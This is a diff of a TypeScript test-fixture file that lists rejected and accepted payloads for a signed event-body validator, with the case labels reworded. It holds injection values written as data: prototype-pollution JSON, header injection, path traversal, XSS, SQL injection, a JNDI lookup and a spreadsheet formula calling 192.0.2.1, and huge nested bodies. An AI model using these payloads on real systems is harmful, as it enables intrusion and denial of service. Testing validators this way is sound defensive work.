@@ -1,4 +1,4 @@
-/** Bodies with a good signature: what is in them is what is wrong, or looks so. */
+/** Bodies with a valid signature, whose content is invalid or looks invalid. */
 import type { Json } from '../../wire/json.ts'
 import type { Forge, Rows } from './forge.ts'
 
@@ -20,8 +20,8 @@ export const eventTypes = ({ signed, ledBy, followedBy, next }: Forge): Rows => 
       'an event_type of negative zero': literal('-0'),
       'an event_type of negative zero in quotes': typed('-0'),
       'an event_type with a fraction': typed(1.5),
-      'an event_type beyond what a number can hold': typed(2 ** 53),
-      'an event_type beyond all numbers': literal('1e400'),
+      'an event_type of 2^53': typed(2 ** 53),
+      'an event_type that is too large for a number (1e400)': literal('1e400'),
       'an event_type in hexadecimal digits': typed('0x1'),
       'an event_type with an exponent in quotes': typed('1e0'),
       'an event_type with a fraction of zero in quotes': typed('1.0'),
@@ -35,22 +35,22 @@ export const eventTypes = ({ signed, ledBy, followedBy, next }: Forge): Rows => 
       'an event_type of 100,000 digits': typed('1'.repeat(100_000)),
       'an event_type of NaN in quotes': typed('NaN'),
       'an event_type that is the name of the event': typed('StreamBegin'),
-      'an event_type of unknown': typed('unknown'),
+      "an event_type of 'unknown'": typed('unknown'),
       'an event_type of __proto__': typed('__proto__'),
       'an event_type of constructor': typed('constructor'),
       'an event_type of toString': typed('toString'),
-      'an event_type first, and null after it': followedBy('"event_type":null'),
+      'a valid event_type first, and null after it': followedBy('"event_type":null'),
       'a body inside another': signed({ event_type: undefined, body: { event_type: 1 } }),
     },
     accepted: {
-      'a stream that ends, whose event_type is 0': ended(0),
+      'an event_type of 0 (StreamEnd)': ended(0),
       'an event_type of 0 in quotes': ended('0'),
       'an event_type in quotes': typed('1'),
       'an event_type with a fraction of zero': literal('1.0'),
       'an event_type with an exponent': literal('1e0'),
-      'an event_type that is there twice': ledBy('"event_type":0'),
-      'an event_type that nobody knows': typed(9999),
-      'an event_type as large as it can be': typed(2 ** 53 - 1),
+      'a repeated event_type': ledBy('"event_type":0'),
+      'an unknown event_type': typed(9999),
+      'an event_type of 2^53 - 1': typed(2 ** 53 - 1),
     },
   }
 }
@@ -77,8 +77,8 @@ export const wrapped = ({ unsigned, signed, next }: Forge): Rows => {
       'a signed body in a field beside a good sign': wrap(begin, { t, sign }),
     },
     accepted: {
-      'a body of StreamLive in a field, as its document shows it': wrap(streamLive()),
-      'a body of StreamLive in a field beside a forged sign, which counts for nothing': wrap(
+      'a StreamLive body in the field data, as documented': wrap(streamLive()),
+      'a StreamLive body in the field data, beside a forged sign that is ignored': wrap(
         streamLive(),
         { t, sign: '0'.repeat(32) },
       ),
@@ -87,7 +87,7 @@ export const wrapped = ({ unsigned, signed, next }: Forge): Rows => {
   }
 }
 
-/** A JSON object with a field of that name, which an object literal cannot have. */
+// Written as JSON text, since `__proto__` in an object literal sets the prototype.
 const proto = (value: string): string => `{"__proto__":${value}}`
 
 const evil = '{"polluted":true,"event_type":0,"stream_id":"evil-stream"}'
@@ -97,46 +97,43 @@ export const prototypes = (forge: Forge): Rows => {
   const seq = () => ({ seq: next() })
   return {
     SignatureMissing: {
-      'a body that is nothing but a prototype': proto(signed()),
-      'a sign and a t that are in a prototype': `${unsigned().slice(0, -1)},${proto(signed()).slice(1)}`,
+      'a whole body under __proto__': proto(signed()),
+      'sign and t under __proto__': `${unsigned().slice(0, -1)},${proto(signed()).slice(1)}`,
     },
     EventTypeInvalid: {
-      'an event_type that is in a prototype': followedBy(`"__proto__":${evil}`, {
+      'an event_type under __proto__': followedBy(`"__proto__":${evil}`, {
         event_type: undefined,
       }),
     },
     EventInvalid: {
-      'a stream_id that is in a prototype': followedBy(`"__proto__":${evil}`, {
+      'a stream_id under __proto__': followedBy(`"__proto__":${evil}`, {
         stream_id: undefined,
       }),
     },
     accepted: {
-      'a prototype before the fields': ledBy(`"__proto__":${evil}`),
-      'a prototype behind the fields': followedBy(`"__proto__":${evil}`),
-      'a prototype of null': followedBy('"__proto__":null'),
-      'a prototype written with escapes': followedBy(`"\\u005f_proto__":${evil}`),
-      'a prototype in an unknown field': followedBy(`"x":${proto(evil)}`),
-      'a prototype in an item of a list': followedBy(
+      '__proto__ before the other fields': ledBy(`"__proto__":${evil}`),
+      '__proto__ after the other fields': followedBy(`"__proto__":${evil}`),
+      'a __proto__ of null': followedBy('"__proto__":null'),
+      '__proto__ written with JSON escapes': followedBy(`"\\u005f_proto__":${evil}`),
+      '__proto__ in an unknown field': followedBy(`"x":${proto(evil)}`),
+      '__proto__ in an item of a list': followedBy(
         `"abnormal_event":[{"type":6,"__proto__":${evil},"detail":[${proto(evil)}]}]`,
         {},
         'PushException',
       ),
-      'a prototype in the JSON inside a field': signed({ msg: proto(evil) }, 'TaskStart'),
-      'a prototype in a field whose JSON is kept as it is': signed(
-        { msg: proto(evil) },
-        'ResetTaskConfig',
-      ),
-      'a prototype in the JSON of record_detail': signed(
+      '__proto__ in the JSON text of msg': signed({ msg: proto(evil) }, 'TaskStart'),
+      '__proto__ in JSON text that is not decoded': signed({ msg: proto(evil) }, 'ResetTaskConfig'),
+      '__proto__ in the JSON text of record_detail': signed(
         { ...seq(), record_detail: proto(evil) },
         'RecordStatus',
       ),
-      'a prototype in a field whose JSON should be text': followedBy(
+      '__proto__ in a record_detail that is an object': followedBy(
         `"record_detail":${proto(evil)}`,
         seq(),
         'RecordStatus',
       ),
-      'a constructor with a prototype': followedBy(`"constructor":{"prototype":${evil}}`),
-      'fields named as those of every object': signed({
+      'a constructor.prototype': followedBy(`"constructor":{"prototype":${evil}}`),
+      'fields with the names of Object.prototype': signed({
         toString: 'text',
         valueOf: 1,
         hasOwnProperty: null,
@@ -145,7 +142,7 @@ export const prototypes = (forge: Forge): Rows => {
         __defineGetter__: 'text',
         __lookupGetter__: 'text',
       }),
-      'fields named as those of a promise, an array and an error': signed({
+      'fields with the names of promises, arrays and errors': signed({
         then: 'text',
         catch: 'text',
         length: 1_000_000,
@@ -172,25 +169,25 @@ export const shapes = (forge: Forge): Rows => {
       'a stream_id in an array': signed({ stream_id: ['hostile-stream'] }),
       'a stream_id in an object': signed({ stream_id: { $ne: null } }),
       'a stream_id of true': signed({ stream_id: true }),
-      'a stream_id that is a number which JSON has rounded': signed({ stream_id: 2 ** 53 }),
+      'a stream_id that is a number of 2^53': signed({ stream_id: 2 ** 53 }),
       'an event_time that no Date can hold': signed({ event_time: 8.64e12 + 1 }),
       'an event_time with a fraction': signed({ event_time: 1_700_000_000.5 }),
-      'an appid that is words': signed({ appid: 'hostile-appid' }),
-      'a width beyond all numbers': followedBy('"width":1e400'),
+      'an appid that is not a number': signed({ appid: 'hostile-appid' }),
+      'a width that is too large for a number (1e400)': followedBy('"width":1e400'),
       'a width of 100,000 digits': followedBy(`"width":${'1'.repeat(100_000)}`),
-      'a list that is words': signed({ abnormal_event: 'hostile-words' }, 'PushException'),
+      'a list that is plain text': signed({ abnormal_event: 'hostile-words' }, 'PushException'),
       'a list of lists': signed({ abnormal_event: [[]] }, 'PushException'),
       'a list with null in it': signed({ abnormal_event: [{}, null] }, 'PushException'),
-      'a time in a list in a list that is words': signed(
+      'a time in a nested list that is plain text': signed(
         { abnormal_event: [{ detail: [{ occur_time: 'hostile-time' }] }] },
         'PushException',
       ),
-      'a recording without what happened to it': status({ record_event: undefined }),
-      'a relay event without a name': signed({ callback_event: undefined }, 'Relay'),
-      'a relay event with an object for a name': signed({ callback_event: {} }, 'Relay'),
+      'a recording event without record_event': status({ record_event: undefined }),
+      'a relay event without callback_event': signed({ callback_event: undefined }, 'Relay'),
+      'a relay event whose callback_event is an object': signed({ callback_event: {} }, 'Relay'),
     },
     accepted: {
-      'fields that nobody knows': signed({ new_field: [1, { a: null }], 'another field': '' }),
+      'unknown fields': signed({ new_field: [1, { a: null }], 'another field': '' }),
       'a field whose name is empty': signed({ '': 'text' }),
       'names with a NUL, a line break and a lone surrogate': followedBy(
         String.raw`"a\u0000b":1,"a\nb":1,"\ud800":1`,
@@ -199,24 +196,30 @@ export const shapes = (forge: Forge): Rows => {
       'an empty stream_id': signed({ stream_id: '' }),
       'a stream_id that is a number': signed({ stream_id: 42 }),
       'an empty stream_param': signed({ stream_param: '' }),
-      'digits beyond what a number can hold': signed({ sequence: `${2n ** 64n}${next()}` }),
+      'digits beyond 2^53': signed({ sequence: `${2n ** 64n}${next()}` }),
       'a lone surrogate in a string': followedBy(String.raw`"errmsg":"\ud83d"`),
-      'surrogates the wrong way round': followedBy(String.raw`"errmsg":"\ude00\ud83d"`),
+      'surrogates in reverse order': followedBy(String.raw`"errmsg":"\ude00\ud83d"`),
       'a NUL in a stream_id': signed({ stream_id: 'hostile\0stream' }),
-      'line breaks and a header in a stream_id': signed({
+      'an HTTP header injection in a stream_id': signed({
         stream_id: 'hostile\r\nSet-Cookie: a=b\r\n\r\n',
       }),
-      'escapes of a terminal in a stream_id': signed({ stream_id: '\u001b[2J\u001b]0;x\u0007' }),
-      'letters that run backwards in a stream_id': signed({ stream_id: '\u202emaerts' }),
+      'terminal escape sequences in a stream_id': signed({
+        stream_id: '\u001b[2J\u001b]0;x\u0007',
+      }),
+      'a right-to-left override in a stream_id': signed({ stream_id: '\u202emaerts' }),
       'a path in a stream_id': signed({ stream_id: '../../../../etc/passwd' }),
       'a script in a stream_id': signed({ stream_id: '"><script>alert(1)</script>' }),
       'SQL in a stream_id': signed({ stream_id: "'; DROP TABLE rooms; --" }),
-      'a template in a stream_id': signed({ stream_id: '${jndi:ldap://192.0.2.1/x}{{7*7}}%s%n' }),
-      'a formula in a stream_id': signed({ stream_id: '=HYPERLINK("http://192.0.2.1/")' }),
+      'template expressions in a stream_id': signed({
+        stream_id: '${jndi:ldap://192.0.2.1/x}{{7*7}}%s%n',
+      }),
+      'a spreadsheet formula in a stream_id': signed({
+        stream_id: '=HYPERLINK("http://192.0.2.1/")',
+      }),
       'broken JSON in msg': signed({ msg: '{"task_start_time":' }, 'TaskStart'),
       'the JSON of an array in msg': signed({ msg: '[]' }, 'TaskStart'),
-      'a msg of a wrong shape': signed({ msg: '{"task_start_time":"words"}' }, 'TaskStart'),
-      'a msg that was not put into text': signed({ msg: { a: [] } }, 'TaskStart'),
+      'a msg whose fields are invalid': signed({ msg: '{"task_start_time":"words"}' }, 'TaskStart'),
+      'a msg that is an object instead of JSON text': signed({ msg: { a: [] } }, 'TaskStart'),
       'broken JSON in source_urls': signed({ source_urls: '["http://' }, 'TaskStart'),
       'broken JSON in record_detail': status({ record_detail: 'hostile-words' }),
       'a number in record_detail': status({ record_detail: 7 }),
@@ -237,7 +240,7 @@ export const sizes = (forge: Forge): Rows => {
   return {
     BodyTooLarge: {
       'one byte more than 1 MiB': signed().padEnd(MEGABYTE + 1),
-      'characters that are fewer than 1 MiB, and more in bytes': signed({
+      'fewer characters than 1 MiB, but more bytes': signed({
         errmsg: '直'.repeat(400_000),
       }),
     },
@@ -257,15 +260,20 @@ export const sizes = (forge: Forge): Rows => {
       '1 MiB in a stream_id': signed({ stream_id: 'x'.repeat(room) }),
       '1 MiB in the name of a field': followedBy(`"${'x'.repeat(room)}":1`),
       '100,000 fields': followedBy(many(100_000, (index) => `"x${index.toString(36)}":1`)),
-      '90,000 fields named by numbers': followedBy(many(90_000, (index) => `"${index * 7}":1`)),
-      'a field that is there 100,000 times': followedBy(many(100_000, () => '"a":1')),
+      '90,000 fields whose names are numbers': followedBy(
+        many(90_000, (index) => `"${index * 7}":1`),
+      ),
+      'a field that is repeated 100,000 times': followedBy(many(100_000, () => '"a":1')),
       'a list of 100,000 empty objects': event(many(100_000, () => '{}')),
-      '400,000 arrays in each other, in an unknown field': followedBy(`"x":${nested(400_000)}`),
-      '100,000 objects in each other, in an unknown field': followedBy(
+      '400,000 nested arrays in an unknown field': followedBy(`"x":${nested(400_000)}`),
+      '100,000 nested objects in an unknown field': followedBy(
         `"x":${'{"a":'.repeat(100_000)}1${'}'.repeat(100_000)}`,
       ),
-      '400,000 arrays in each other, as JSON in msg': signed({ msg: nested(400_000) }, 'TaskStart'),
-      '400,000 arrays in each other, as JSON in record_detail': signed(
+      '400,000 nested arrays in the JSON text of msg': signed(
+        { msg: nested(400_000) },
+        'TaskStart',
+      ),
+      '400,000 nested arrays in the JSON text of record_detail': signed(
         { seq: next(), record_detail: nested(400_000) },
         'RecordStatus',
       ),
